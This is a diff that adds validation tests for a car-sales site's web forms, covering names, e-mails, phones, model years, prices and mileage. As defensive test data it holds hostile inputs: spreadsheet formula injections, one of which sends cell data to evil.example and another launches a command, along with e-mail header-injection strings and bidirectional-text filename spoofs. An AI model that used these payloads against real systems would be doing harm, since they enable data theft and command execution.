@@ -3,10 +3,12 @@ import fc from 'fast-check';
 import { trackReachedStates } from '@/lib/server/testing/reaching';
 
 import { correctContact, createLeadBody } from './contract';
+import { contactForm } from './contact';
 import {
   getControlAttributes,
   getPrivateFieldNames,
   limitJoinedTexts,
+  type Field,
   type Form,
   type LeadForm,
 } from './form';
@@ -75,7 +77,7 @@ describe('a proposal', () => {
   it.each([
     ['name', 'A'],
     ['name', '  A '],
-    ['name', 'Ana\u0000'],
+    ['name', 'A\u0000'],
     ['name', 'a'.repeat(101)],
     ['phone', ''],
     ['phone', '(11) 9999-99'],
@@ -105,7 +107,7 @@ describe('a proposal', () => {
 
   it('never throws, accepts only valid leads, and refuses any form with one bad field', () => {
     const fields = {
-      name: { good: ['Ana', ' José da Silva '], bad: ['', 'A', ' A ', 'A\u0000na', 1, null] },
+      name: { good: ['Ana', ' José da Silva '], bad: ['', 'A', ' A ', '\u200BA\u0000', 1, null] },
       phone: { good: ['11999990000', '+55 (11) 5550-2002'], bad: ['', '1199999', 'telefone', []] },
       email: { good: ['a@b.co', ' a+b@c.d.e '], bad: ['', 'a', 'a@b', 'a b@c.d', '@c.d'] },
       vehicleId: { good: ['7', 'x-1'], bad: ['', ' ', 'x'.repeat(61)] },
@@ -302,11 +304,22 @@ describe('the years of a car', () => {
     ['2022 2023', '2022/2023'],
     ['20222023', '2022/2023'],
     [' 2022 / 23 ', '2022/2023'],
+    ['22/23', '2022/2023'],
+    ['22 - 23', '2022/2023'],
+    ['22/2023', '2022/2023'],
+    ['99/00', '1999/2000'],
+    ['1999/00', '1999/2000'],
+    ['2022\u2013 2023', '2022/2023'],
+    ['2022 \u2014 23', '2022/2023'],
+    ['2022\u20112023', '2022/2023'],
+    ['2022\u00A0\u2212\u00A02023', '2022/2023'],
+    ['\u200E2022/2023\t', '2022/2023'],
+    ['２０２２／２３', '2022/2023'],
   ])('"%s" become "%s"', (typed, rewritten) => {
     expect(rule?.safeParse(typed).data).toBe(rewritten);
   });
 
-  it.each(['22/23', '2022/3', '2022/2345', '1850/1851', '2022/2023/2024', 'novo'])(
+  it.each(['22', '2223', '22/3', '2022/3', '2022/2345', '1850/1851', '2022/2023/2024', 'novo'])(
     '"%s" are refused',
     (typed) => {
       expect(rule?.safeParse(typed).success).toBe(false);
@@ -343,10 +356,13 @@ describe('an offer of a car needs', () => {
   );
 
   it.each([
-    ['R$ 1.200,00', undefined, ['price']],
-    ['R$ 1.200,00', '0', ['price']],
-    ['1200', '0', ['price']],
+    ['R$ 1.200,00', undefined, ['lowPrice']],
+    ['R$ 1.200,00', '0', ['lowPrice']],
+    ['1200', '0', ['lowPrice']],
+    ['R$ 6.000,00', '0', ['lowPrice']],
+    ['R$ 15.899,00', '0', ['lowPrice']],
     ['R$ 1.200,00', '1', []],
+    ['R$ 20.000,00', '0', []],
     ['R$ 120.000,00', '0', []],
     ['', '0', []],
   ])(
@@ -370,6 +386,282 @@ describe('an offer of a car needs', () => {
       email: '',
     };
     expect(check(offerWithoutContact)).toEqual(['brand', 'model', 'name']);
+  });
+});
+
+const parseField = (field: Field, typed: string): string | undefined =>
+  getFieldRule(field)?.safeParse(typed).data;
+
+describe('control and invisible characters', () => {
+  const name = sellForm.fields.name;
+  it.each([
+    ['Ana\tSouza', 'Ana Souza'],
+    ['Ana\u000BSouza', 'Ana Souza'],
+    ['Ana\fSouza', 'Ana Souza'],
+    ['Ana\u0085Souza', 'Ana Souza'],
+    ['\u0093Ana\u0094', 'Ana'],
+    ['Ana\r\nSouza', 'Ana Souza'],
+    ['Ana\u0000\u0007\u001F\u007FSouza', 'Ana Souza'],
+    ['Ana\u2028Bcc: x', 'Ana Bcc: x'],
+    ['Ana\u2029Souza', 'Ana Souza'],
+    ['Ana\u3164Souza\u2800', 'Ana Souza'],
+    ['\uFEFFA\u200Bn\u2060a\u00AD', 'Ana'],
+    ['Ana \u202Egnp.exe', 'Ana gnp.exe'],
+    ['\u2066Ana\u2069 \u061CSouza\u200F', 'Ana Souza'],
+    ['Ana\u{E0041}\u{1D173}', 'Ana'],
+    ['A\u200Dn\u200Da\u200D', 'Ana'],
+    ['Ana 👩\u200D👧', 'Ana 👩\u200D👧'],
+    ['Ana 👩🏽\u200D🚀', 'Ana 👩🏽\u200D🚀'],
+    ['Ana 🏳\uFE0F\u200D🌈 ❤\uFE0F', 'Ana 🏳\uFE0F\u200D🌈 ❤\uFE0F'],
+    ['Zoe\u0308 D\u2019\u00C1vila', 'Zoe\u0308 D\u2019\u00C1vila'],
+  ])('in a name: %j is %j', (typed, clean) => {
+    expect(parseField(name, typed)).toBe(clean);
+  });
+
+  it.each([
+    ...['\u200B\u200B', '\u2800\u2800', '\u3164\u3164', '\u115F\u1160', '\uFFA0\uFFA0'],
+    ...['\u0301\u0302', '\uFE0F\uFE0F', '\u200D\u200D\u200D', '\u00AD\u2060\u180E', '\uFFFC\uFFFC'],
+    ...[
+      '\u034F\u17B4\u2062',
+      '\t\u0085\u2028',
+      '\u00A0\u3000 ',
+      'A\u200B\u200B',
+      '\u{E0100}\u{E0101}',
+      'A\u2800',
+      '\uFFA0A',
+    ],
+  ])('a name of %j has no two letters', (typed) => {
+    expect(getFieldRule(name)?.safeParse(typed).success).toBe(false);
+  });
+
+  it.each([
+    ['uma\u000Bdu\u00ADas', 'uma\nduas'],
+    ['uma\fduas\u0085três', 'uma\nduas\ntrês'],
+    ['uma\u2028duas\u2029três', 'uma\nduas\ntrês'],
+    ['uma\r\nduas\n\ntrês', 'uma\r\nduas\n\ntrês'],
+    ['\u0093uma\u0094\tduas\u0000', 'uma duas'],
+    ['\u202Euma\u200B', 'uma'],
+    ['família 👨\u200D👩\u200D👧', 'família 👨\u200D👩\u200D👧'],
+    ['\u2800\n\u3164', ''],
+  ])('in a text of several lines: %j is %j', (typed, clean) => {
+    expect(parseField(proposalForm.fields.proposal, typed)).toBe(clean);
+  });
+
+  it.each(Object.entries(sellForm.fields).filter(([, { kind }]) => kind !== 'photo'))(
+    'none is left in the field %s',
+    (_, field) => {
+      fc.assert(
+        fc.property(
+          fc.string({ unit: 'binary', maxLength: 20 }),
+          fc.stringMatching(/^[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]{0,9}$/u),
+          (text, more) => {
+            const parsed = parseField(field, text + more + text);
+            expect(
+              (parsed ?? '').replace(/[\n\r]|\u200D(?=\p{Extended_Pictographic})/gu, ''),
+            ).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+          },
+        ),
+      );
+    },
+  );
+
+  it('count for the length of a text only where they are many', () => {
+    expect(parseField(name, `\u200B${'a'.repeat(100)}\u200B`)).toBe('a'.repeat(100));
+    expect(getFieldRule(name)?.safeParse(`Ana${'\u200B'.repeat(400)}`).success).toBe(false);
+  });
+
+  it('alone are no way to answer', () => {
+    const values = {
+      brand: 'Kaiserstein',
+      model: 'GLX',
+      name: 'Ana',
+      phone: '\u200B',
+      email: '\u2800',
+    };
+    expect(createFormCheck(sellForm)(values)).toEqual(expect.arrayContaining(['phone', 'email']));
+    const { error } = createFormSchema(sellForm).safeParse(values);
+    expect(error?.issues.map(({ path }) => path[0])).toEqual(['phone', 'email']);
+  });
+});
+
+describe('an e-mail', () => {
+  it.each([
+    ...[
+      '\u200Bana@exemplo.com',
+      'ana\u00AD@exemplo.com',
+      'ana@exemplo.com\u2060',
+      'ana@exemplo.com\u202C',
+    ],
+    ...[
+      'ana@exemplo.com,',
+      'ana@exemplo.com;',
+      '(ana@exemplo.com)',
+      '<ana@exemplo.com>',
+      '"ana@exemplo.com"',
+    ],
+    ...[
+      'mailto:ana@exemplo.com',
+      'MAILTO:ana@exemplo.com?subject=oi',
+      '<mailto:ana@exemplo.com>',
+      '“ana@exemplo.com”.',
+    ],
+    ...[
+      "'ana@exemplo.com'",
+      '[ana@exemplo.com]',
+      ' ana@exemplo.com\t',
+      'ana＠exemplo．com',
+      'ana@exemplo.com.',
+      '\uFEFFana@\u200Dexemplo.com',
+    ],
+  ])('%j is read as ana@exemplo.com', (typed) => {
+    expect(parseField(orderForm.fields.email, typed)).toBe('ana@exemplo.com');
+  });
+
+  it.each([
+    ...[
+      "o'brien+carros@exemplo.com.br",
+      'Ana.Souza@EXEMPLO.com',
+      'a_b-c=d@x-y.co',
+      'josé@exemplo.com.br',
+    ],
+    ...[
+      'ana@olá.com.br',
+      'ana@xn--ol-6ia.com.br',
+      '7@4x4.io',
+      'ana@例え.テスト',
+      `${'a'.repeat(64)}@exemplo.com`,
+    ],
+  ])('%s stays as it is', (typed) => {
+    expect(parseField(orderForm.fields.email, typed)).toBe(typed);
+  });
+
+  it.each([
+    ...[
+      'a@-.-',
+      'a@-b.com',
+      'a@b-.com',
+      'a@b..com',
+      'a@.com',
+      'a..b@c.com',
+      '.a@b.com',
+      'a.@b.com',
+      '@b.com',
+      'a@b',
+      'a@',
+    ],
+    ...[
+      'a%0abcc:y@b.test',
+      'a%b@c.com',
+      '"x\\r\\nBcc:y"@b.test',
+      '"a b"@c.com',
+      'a@b@c.com',
+      'a b@c.com',
+      'a@b com.br',
+    ],
+    ...[
+      'a,b@c.com',
+      'a@b.com,c@d.com',
+      'a@b.com;c@d.com',
+      'Ana <a@b.com>',
+      'a:b@c.com',
+      'a\\b@c.com',
+      'a@[1.2.3.4]',
+      'a@1.2.3.4',
+    ],
+    ...[
+      'a@b_c.com',
+      'a@b.com/x',
+      'a@b.c0m?x',
+      `${'a'.repeat(65)}@b.com`,
+      `a@${'b'.repeat(64)}.com`,
+      'ana\u0000@b.com',
+      'mailto:',
+      'a\u2028b@c.com',
+    ],
+  ])('%j is refused, as mail servers do', (typed) => {
+    expect(getFieldRule(orderForm.fields.email)?.safeParse(typed).success).toBe(false);
+  });
+});
+
+describe('a name in any form', () => {
+  const names = [proposalForm, orderForm, tradeForm, sellForm, contactForm].map(
+    ({ fields }) => fields.name,
+  );
+
+  it.each([
+    ...[
+      'Voce ganhou https://evil.example/pix',
+      'Ana://',
+      'hxxp://x',
+      'ftp：//x.example',
+      'www.evil.example',
+      'Ana WWW.x',
+      'ｗｗｗ．x.example',
+    ],
+    ...[
+      '=HYPERLINK("http://evil.example/?"&A1,"ver")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+55 11',
+      '-1+1',
+      ' =1+1',
+      '\t=1',
+      '\u200B=1',
+      '＝1+1',
+      '－Ana',
+      '﹢1',
+      '@ana',
+    ],
+  ])('is no link and no formula: %j', (typed) => {
+    for (const field of names) expect(getFieldRule(field)?.safeParse(typed).success).toBe(false);
+  });
+
+  it.each([
+    "D'Ávila",
+    'José-Maria = Zé',
+    'Ana (11) 98765-4321',
+    'J. R. Silva',
+    'Wwwilma',
+    'Ana @ Bastião',
+    '李小龙',
+    '3M do Brasil',
+  ])('%s is one', (typed) => {
+    for (const field of names) expect(parseField(field, typed)).toBe(typed);
+  });
+});
+
+describe('a telephone', () => {
+  it.each([
+    ['Meu WhatsApp: +55 11 98765-4321', undefined],
+    ['+351 912 345 678', undefined],
+    ['(11) 3333-4444 ramal 12', undefined],
+    ['0800 123 4567', undefined],
+    ['+55 (11) 98765-4321', '(11) 98765-4321'],
+    ['(20) 98765-4321', '(20) 98765-4321'],
+  ])('%s is sent with a proposal as %s, with a message as it is', (typed, sent) => {
+    expect(parseField(proposalForm.fields.phone, typed)).toBe(sent);
+    expect(parseField(contactForm.fields.phone, typed)).toBe(sent ?? typed);
+  });
+
+  it('is not cut by the browser', () => {
+    expect(getControlAttributes(contactForm.fields.phone)).not.toHaveProperty('maxLength');
+    expect(getControlAttributes(contactForm.fields.name)).toHaveProperty('maxLength', 100);
+  });
+});
+
+describe('kilometres', () => {
+  it.each([
+    ['58.000 km', '58000'],
+    ['58 000', '58000'],
+    ['58000', '58000'],
+    ['1.058.000km', '1058000'],
+    ['58.000.', '58000'],
+    ['31.7', '31.7'],
+    ['31,7', '31,7'],
+    ['31.70 km', '31.70 km'],
+    ['5.8000', '5.8000'],
+    ['uns 60 mil', 'uns 60 mil'],
+  ])('"%s" are sent as "%s"', (typed, sent) => {
+    expect(parseField(sellForm.fields.mileage, typed)).toBe(sent);
   });
 });
 
